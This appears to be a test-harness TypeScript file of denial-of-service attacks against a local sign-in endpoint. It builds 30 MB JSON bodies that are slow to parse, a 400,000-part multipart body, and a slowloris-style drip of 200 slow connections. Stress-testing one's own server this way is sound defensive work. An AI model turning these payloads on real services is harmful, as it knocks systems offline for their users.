import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { type Attack, json, repeated, type Target } from './attack.ts'

const path = '/api/collections/users/auth-with-password'
const DRIPS = 200

/** Bodies of some 30 MB that are slow to take apart, made when they are needed and kept. */
const shapes = {
  '2.4 million keys': () => Buffer.from(`{${Array.from({ length: 2_400_000 }, (_, key) => `"k${key}":1`).join(',')}}`),
  '15 million levels': () => Buffer.from('['.repeat(15e6) + ']'.repeat(15e6)),
  '10 million objects': () => Buffer.from(`[${'{},'.repeat(1e7 - 1)}{}]`),
} as const

const made = new Map<string, Buffer>()

function bodyOf(shape: keyof typeof shapes): Buffer {
  const body = made.get(shape) ?? shapes[shape]()
  made.set(shape, body)
  return body
}

const ofShape = (shape: keyof typeof shapes, connections: number): Attack => ({
  name: `${connections} × JSON of 30 MB to a sign-in: ${shape}`,
  async prepare() {
    bodyOf(shape)
  },
  run: repeated({ connections, request: () => ({ path, method: 'POST', headers: json, body: bodyOf(shape) }) }),
})

const part = '--boundary12\r\ncontent-disposition: form-data; name="a"\r\n\r\n1\r\n'
const parts = Buffer.from(`${part.repeat(400_000)}--boundary12--\r\n`)

/** Requests that announce a body and send a byte of it each second. */
async function drip({ port, signal, from, tell }: Target): Promise<void> {
  const sockets = Array.from({ length: DRIPS }, (_, number) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: from(number) })
    socket.on('error', () => undefined)
    socket.once('close', () => tell(signal.aborted ? 'held' : 'cut'))
    socket.once('data', (answer) => tell(answer.toString('latin1').slice(9, 12)))
    socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 10000\r\n\r\n{`)
    return socket
  })
  while (!signal.aborted) {
    await pause(1_000, undefined, { signal }).catch(() => undefined)
    for (const socket of sockets) socket.write(' ')
  }
  for (const socket of sockets) socket.destroy()
}

/** What a guest may send to an address that takes a body. */
export const bodyAttacks: readonly Attack[] = [
  ofShape('2.4 million keys', 1),
  ofShape('15 million levels', 1),
  ofShape('10 million objects', 1),
  ofShape('2.4 million keys', 12),
  {
    name: '1 × multipart of 400,000 parts to a sign-in',
    run: repeated({
      connections: 1,
      request: () => ({ path, method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=boundary12' }, body: parts }),
    }),
  },
  { name: `${DRIPS} × body of one byte a second`, run: drip },
]
